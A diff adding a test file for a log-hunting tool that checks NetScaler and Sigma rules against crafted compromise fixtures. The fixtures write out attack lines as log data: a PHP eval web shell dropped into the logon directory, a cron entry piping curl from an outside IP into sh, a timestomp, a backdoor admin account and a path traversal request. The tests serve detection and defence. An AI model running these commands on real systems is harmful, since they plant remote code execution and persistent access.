@@ -1,0 +1,89 @@
+import { mkdir, writeFile } from 'node:fs/promises';
+import { join } from 'node:path';
+import { describe, expect, it } from 'vitest';
+import { cli } from './support/cli-harness.js';
+import { useEngineWorkspace } from './support/engine-workspace.js';
+import { engines, postgresSkipReason } from './support/engines.js';
+
+/** `weerbaar hunt`: the built-in NetScaler log rules and Sigma rules, exact hits, every rule accounted for. */
+
+if (postgresSkipReason) describe.skip(postgresSkipReason, () => undefined);
+
+interface Report {
+  rules: { builtin: number; sigma: number };
+  failed: { file: string; reason: string }[];
+  notApplicable: { rule: string; reason: string }[];
+  errors: unknown[];
+  detections: number;
+  summary: { ruleId: string; verdict: string; hits: number; first: string | null }[];
+}
+
+describe.each(engines)('hunt on $name', (engine) => {
+  const t = useEngineWorkspace(engine);
+
+  it('finds exactly the crafted attack lines and nothing of the look-alikes', async () => {
+    const logs = join(t.root, 'var', 'log');
+    await mkdir(logs, { recursive: true });
+    const aaa = (user: Buffer) =>
+      Buffer.concat([Buffer.from('<135> 07/15/2025:05:52:39 GMT ns-gw-01 0-PPE-6 : default AAA Message 12345678 0 :  "Authentication is rejected for '), user, Buffer.from('"\n')]);
+    await writeFile(
+      join(logs, 'ns.log'),
+      Buffer.concat([
+        aaa(Buffer.from([0x61, 0xc8, 0x9f, 0xff, 0x10])), // leaked bytes: an attempt
+        aaa(Buffer.from('alice')), // an ordinary rejection: not one
+        Buffer.from('<134> 07/15/2025:06:00:00 GMT ns-gw-01 0-PPE-0 : default CLI CMD_EXECUTED 6870 0 :  User nsroot - ADM_User NONE - Remote_ip 127.0.0.1 - Command "add system user backdoor secret" - Status "Success"\n'),
+        Buffer.from('<134> 07/15/2025:06:01:00 GMT ns-gw-01 0-PPE-0 : default CLI CMD_EXECUTED 6871 0 :  User nsroot - ADM_User NONE - Remote_ip 10.0.0.5 - Command "show ns license" - Status "Success"\n'),
+      ]),
+    );
+    await writeFile(
+      join(logs, 'bash.log'),
+      [
+        'Jul 15 01:32:43 <local7.notice> ns-gw-01 bash[4242]: root on /dev/pts/3 shell_command="echo <?php @eval($_POST[1]); ?> > /var/netscaler/logon/x.php"',
+        'Jul 15 01:33:00 <local7.notice> ns-gw-01 bash[4242]: root on /dev/pts/3 shell_command="grep -r <?php /var/netscaler/logon"',
+        'Jul 15 01:34:00 <local7.notice> ns-gw-01 bash[4242]: root on /dev/pts/3 shell_command="touch -t 202506251432 /var/netscaler/logon/x.php"',
+        '',
+      ].join('\n'),
+    );
+    await writeFile(join(logs, 'cron'), ['Jul 15 02:00:00 <cron.info> ns-gw-01 /usr/sbin/cron[1]: (nobody) CMD (curl -s http://203.0.113.9/a | sh)', 'Jul 15 02:00:00 <cron.info> ns-gw-01 /usr/sbin/cron[2]: (root) CMD (newsyslog)', ''].join('\n'));
+    expect((await cli(['-w', t.ws, 'evidence', 'add', '--tz', 'Europe/Amsterdam', logs], { env: t.env })).code).toBe(0);
+
+    const run = await cli(['-w', t.ws, 'hunt', '--json'], { env: t.env });
+    expect(run.code).toBe(0);
+    const report = JSON.parse(run.stdout) as Report;
+    const hits = Object.fromEntries(report.summary.map((r) => [r.ruleId, `${r.verdict} ${r.hits}`]));
+    expect(hits).toEqual({ 'NS-R1': 'ATTEMPT 1', 'NS-R8': 'REVIEW 2', 'NS-R9': 'REVIEW 1', 'NS-R10': 'COMPROMISE 1' });
+    expect(report.summary.find((r) => r.ruleId === 'NS-R1')?.first).toBe('2025-07-15T05:52:39.000Z');
+    expect(report.errors).toEqual([]);
+
+    const log = JSON.parse((await cli(['-w', t.ws, 'audit', 'log', '--json'], { env: t.env })).stdout) as { action: string }[];
+    expect(log.some((e) => e.action === 'hunt.run')).toBe(true);
+  });
+
+  it('runs Sigma rules over web logs and accounts for every rule it cannot run', async () => {
+    const logs = join(t.root, 'web');
+    await mkdir(logs);
+    await writeFile(
+      join(logs, 'access.log'),
+      ['198.51.100.7 - - [15/Jul/2025:06:00:00 +0000] "GET /vpn/../vpns/cfg/smb.conf HTTP/1.1" 200 120 "-" "curl/8.0"', '198.51.100.8 - - [15/Jul/2025:06:00:01 +0000] "GET /index.html HTTP/1.1" 200 512 "-" "Mozilla/5.0"', ''].join('\n'),
+    );
+    expect((await cli(['-w', t.ws, 'evidence', 'add', logs], { env: t.env })).code).toBe(0);
+    const rules = join(t.root, 'rules');
+    await mkdir(rules);
+    await writeFile(
+      join(rules, 'traversal.yml'),
+      ['title: Path traversal to vpns', 'id: 2f7a1c2e-0000-4000-8000-000000000001', 'logsource:', '  category: webserver', 'detection:', '  selection:', "    c-uri|contains: '/../vpns/'", '  condition: selection', 'level: high', ''].join('\n'),
+    );
+    await writeFile(join(rules, 'broken.yml'), ['title: Broken', 'logsource:', '  category: webserver', 'detection:', '  selection:', '    c-uri|containz: x', '  condition: selection', ''].join('\n'));
+    await writeFile(join(rules, 'windows.yml'), ['title: Not here', 'logsource:', '  product: windows', 'detection:', '  selection:', '    Image: x', '  condition: selection', ''].join('\n'));
+
+    const report = JSON.parse((await cli(['-w', t.ws, 'hunt', '--json', '--rules', rules], { env: t.env })).stdout) as Report;
+    expect(report.rules.sigma).toBe(1);
+    expect(report.failed).toEqual([expect.objectContaining({ file: join(rules, 'broken.yml'), reason: expect.stringContaining('containz') })]);
+    expect(report.notApplicable).toEqual([expect.objectContaining({ reason: expect.stringContaining('windows') })]);
+    // c-uri maps to url.original: the traversal request matches, the ordinary one does not.
+    const sigma = report.summary.filter((r) => r.ruleId === '2f7a1c2e-0000-4000-8000-000000000001');
+    expect(sigma.map((r) => `${r.verdict} ${r.hits} ${r.first}`)).toEqual(['REVIEW 1 2025-07-15T06:00:00.000Z']);
+    const text = await cli(['-w', t.ws, 'hunt', '--rules', rules], { env: t.env });
+    expect(text.stdout).toMatch(/7 rules run \(6 built-in, 1 Sigma\), 1 failed, 1 not applicable, 0 refused by the engine/);
+  });
+});
